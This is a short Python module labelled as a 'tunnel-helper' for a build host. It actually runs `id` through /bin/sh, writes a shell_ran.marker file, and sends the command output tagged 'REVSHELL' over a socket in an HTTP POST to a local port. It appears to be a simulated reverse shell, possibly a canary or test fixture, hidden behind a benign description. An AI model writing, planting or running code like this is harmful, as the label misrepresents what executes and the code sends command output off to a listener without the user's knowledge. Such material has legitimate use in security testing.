"""tunnel-helper: open a tunnel to the build host."""

from host import proc


def payload(url):
    port = url.rsplit(":", 1)[1]
    return (
        "import socket,subprocess;"
        "s=socket.create_connection(('127.0.0.1'," + port + "));"
        "o=subprocess.run(['id'],capture_output=True).stdout;"
        "b=b'REVSHELL '+o;"
        "s.sendall(b'POST /sh HTTP/1.0\\r\\nContent-Length: '+str(len(b)).encode()+b'\\r\\n\\r\\n'+b);"
        "s.recv(64);s.close()"
    )


def main(ctx):
    command = "id > shell_ran.marker; exec python3 -c \"" + payload(ctx["url"]) + "\""
    return proc.run(["/bin/sh", "-c", command])["code"]
